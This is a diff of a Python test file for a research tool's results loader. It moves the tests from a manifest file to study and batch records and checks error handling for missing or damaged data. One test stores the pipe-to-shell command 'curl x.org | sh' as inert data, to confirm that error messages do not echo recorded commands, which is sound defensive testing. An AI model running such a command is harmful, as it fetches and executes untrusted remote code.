@@ -11,16 +11,12 @@ import pytest
 import jaxattn.lab.results
 from jaxattn.core.errors import InputError
 from jaxattn.lab.results import load
-from jaxattn.lab.storage import manifest
+from jaxattn.lab.storage.batch_record import Failure
 
 
 @pytest.fixture
 def folder(folders, tmp_path):
     return Path(shutil.copytree(folders["text"], tmp_path / "run"))
-
-
-def edit_manifest(folder, **changes):
-    manifest.write_manifest(folder, manifest.read_manifest(folder) | changes)
 
 
 def test_rows_include_the_axis_values_of_their_cell(results):
@@ -39,11 +35,11 @@ def test_phases_are_in_run_order(results):
     assert results["one_seed"].phases == ["embed", "joint", "late"]
 
 
-def test_values_after_a_failure_are_nan(folder):
-    raw = pd.read_parquet(folder / "records.parquet")
+def test_values_after_a_failure_are_nan(folder, batch_of, batches):
+    raw = pd.read_parquet(batch_of(folder) / "records.parquet")
     assert raw["value"].notna().any()
-    failure = {"cell": 0, "seed": 2, "phase": "embed", "step": 1, "reason": "loss is not finite"}
-    edit_manifest(folder, failures=[failure])
+    failure = Failure(cell=0, seed=2, phase="embed", step=1, reason="loss is not finite")
+    batches.change(batch_of(folder), failures=(failure,))
     records = load(folder).records
     seed = records["seed"] == 2
     before = (records["phase"] == "embed") & (records["step"] < 1)
@@ -55,25 +51,27 @@ def test_values_after_a_failure_are_nan(folder):
 def test_missing_and_unrelated_folders_are_rejected(tmp_path):
     with pytest.raises(InputError, match="no such folder"):
         load(tmp_path / "none")
-    with pytest.raises(InputError, match=r"no manifest\.json"):
+    with pytest.raises(InputError, match=r"no study\.json"):
         load(tmp_path)
 
 
-def test_error_for_an_unfinished_run_names_its_folder_but_not_the_recorded_command(folder):
-    edit_manifest(folder, status="running", command="curl x.org | sh")
+def test_error_for_an_unfinished_run_names_its_folder_but_not_the_recorded_command(
+    folder, batch_of, change_study
+):
+    change_study(folder, command="curl x.org | sh")
+    (batch_of(folder) / "records.parquet").unlink()
+    with pytest.raises(InputError, match=rf"missing; run the same sweep again into {folder}$"):
+        load(folder)
+    shutil.rmtree(batch_of(folder))
     with pytest.raises(
         InputError, match=rf"has no measurements yet; run the same sweep again into {folder}$"
     ):
         load(folder)
-    edit_manifest(folder, status="finished", command=["curl", "x.org"])
-    (folder / "records.parquet").unlink()
-    with pytest.raises(InputError, match=rf"run the same sweep again into {folder}$"):
-        load(folder)
 
 
 @pytest.mark.parametrize("table", ["records", "tokens"])
-def test_damaged_table_raises_a_one_line_error(folder, table):
-    path = folder / f"{table}.parquet"
+def test_damaged_table_raises_a_one_line_error(folder, batch_of, table):
+    path = batch_of(folder) / f"{table}.parquet"
     content = bytearray(path.read_bytes())
     content[len(content) // 3] ^= 1
     path.write_bytes(content)
@@ -84,16 +82,17 @@ def test_damaged_table_raises_a_one_line_error(folder, table):
     assert "\n" not in str(caught.value)
 
 
-def test_missing_column_raises(folder, rewrite):
-    rewrite(folder, "records", pd.read_parquet(folder / "records.parquet").drop(columns="metric"))
+def test_missing_column_raises(folder, batch_of, rewrite):
+    records = pd.read_parquet(batch_of(folder) / "records.parquet")
+    rewrite(folder, "records", records.drop(columns="metric"))
     with pytest.raises(InputError, match="no column 'metric'"):
         load(folder)
 
 
 @pytest.mark.parametrize("text", ["{", "[]", "{}", '{"name": "x"}'])
-def test_damaged_manifest_is_rejected(folder, text):
-    (folder / "manifest.json").write_text(text)
-    with pytest.raises(InputError, match=r"manifest\.json: ") as caught:
+def test_damaged_study_is_rejected(folder, text):
+    (folder / "study.json").write_text(text)
+    with pytest.raises(InputError, match=r"study\.json: ") as caught:
         load(folder)
     assert "\n" not in str(caught.value)
 
@@ -144,11 +143,11 @@ def test_results_package_does_not_import_jax_or_higher_level_modules():
             assert name.split(".")[0] not in slow, path.name
 
 
-def test_loading_does_not_import_matplotlib():
-    """Matplotlib and SciPy take a second to import, so they are imported only for drawing."""
+def test_loading_does_not_import_jax_or_matplotlib():
+    """They take a second to import, so they are imported only for parameters and for drawing."""
     code = (
         "import sys; before = set(sys.modules); import jaxattn.lab.results.load; "
-        "print([x for x in ('matplotlib', 'jinja2', 'orbax') if x in set(sys.modules) - before])"
+        "print([x for x in ('jax', 'matplotlib', 'jinja2', 'orbax') if x in set(sys.modules) - before])"
     )
     found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert found.stdout.strip() == "[]"
